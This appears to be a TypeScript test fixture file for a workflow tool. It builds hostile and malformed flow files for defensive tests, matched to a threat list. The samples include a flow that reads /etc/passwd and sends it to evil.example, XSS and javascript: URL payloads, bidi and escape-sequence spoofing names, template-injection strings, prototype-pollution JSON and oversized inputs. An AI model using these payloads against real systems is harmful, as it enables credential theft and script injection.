/** Flow files that somebody means harm with, or made by accident: each row of the threat list with its own text. */
import { flowFormat, flowSchemaUrl } from '../../runtime/model/flow.ts'
import type { Json } from '../../runtime/model/json.ts'

type Document = { readonly [name: string]: Json }

const flow = (name: string, nodes: Json, edges: Json = [], more: Document = {}): string =>
  JSON.stringify({
    $schema: flowSchemaUrl,
    format: flowFormat,
    id: 'stranger',
    name,
    zone: 'UTC',
    currency: 'GBP',
    events: {},
    nodes,
    edges,
    parameters: {},
    settings: {},
    tests: [],
    layout: {},
    ...more,
  })

const step = (type: string, config: Document = {}, name?: string): Json => ({
  type,
  version: 1,
  config,
  ...(name === undefined ? {} : { name }),
})

export const scriptName = '<img src="https://evil.example/x.png" onerror="globalThis.hacked=1">'
export const turnedName = 'pay \u202Egnp.exe\u202C \u200B\u200Bnow \u001B[31mred\r\nsecond line'

// biome-ignore lint/suspicious/noTemplateCurlyInString: what would be put in, were a name an expression.
export const reachingName = 'Parcels ${env.HOME} {{7*7}} {data.x}'

/** Would call a stranger every second and read the machine's passwords, were it turned on. */
export const reaching = flow(
  reachingName,
  {
    every: step('schedule', { every: '1s' }),
    passwords: step('file', { path: '/etc/passwd', format: 'csv' }),
    call: step('http', { url: 'https://evil.example/{data.x}' }),
  },
  [
    { from: 'every.event', to: 'call' },
    { from: 'passwords.event', to: 'call' },
  ],
)

export const named = flow(
  scriptName,
  {
    a: step('manual', {}, scriptName),
    b: step('filter', { when: 'data.x > 1' }, turnedName),
    c: step('note', { text: scriptName, table: 'told' }, 'W'.repeat(5_000)),
    d: step('http', { url: 'javascript:alert(1)' }, 'javascript:alert(1)'),
  },
  [
    { from: 'a.event', to: 'b' },
    { from: 'b.pass', to: 'c' },
    { from: 'b.rest', to: 'd' },
  ],
  { description: `${scriptName} ${turnedName}` },
)

const many = Object.fromEntries(Array.from({ length: 30_000 }, (_, index) => [`n${index}`, step('manual')]))

/** What cannot be a flow at all: the row, the text, and what the window says. */
export const unreadable: readonly (readonly [row: string, text: string, said: RegExp])[] = [
  ['A02 nothing', '', /This is no flow that can be read/],
  ['A02 cut off', reaching.slice(0, 200), /This is no flow that can be read/],
  ['A02 trailing junk', `${reaching}<script>`, /This is no flow that can be read/],
  ['A02 not a number', reaching.replace('"format":1', '"format":NaN'), /This is no flow that can be read/],
  ['A03 30,000 steps', flow('Crowd', many), /too (large|many)|at most/i],
  ['A04 a million brackets', '['.repeat(1_000_000), /too deep|levels/i],
]

/** What is a flow, but a wrong one: it may arrive, turned off, and says what is wrong with it. */
export const wrong: readonly (readonly [row: string, text: string])[] = [
  ['A08 a wire to nothing', flow('Loose', { a: step('manual') }, [{ from: 'a.event', to: 'gone' }])],
  [
    'A08 a circle',
    flow('Circle', { a: step('filter', { when: 'true' }), b: step('filter', { when: 'true' }) }, [
      { from: 'a.pass', to: 'b' },
      { from: 'b.pass', to: 'a' },
    ]),
  ],
  ['A08 a step of no known kind', flow('Unknown', { a: step('rocket') })],
  [
    'A10 names of every object',
    `{"format":1,"id":"p","name":"Proto","zone":"UTC","currency":"GBP","events":{},"nodes":{"__proto__":{"type":"manual","version":1,"config":{"polluted":true}},"constructor":{"type":"note","version":1,"config":{"text":"x","table":"__proto__"}}},"edges":[],"parameters":{},"settings":{},"tests":[],"layout":{"__proto__":{"x":1,"y":1}}}`,
  ],
]
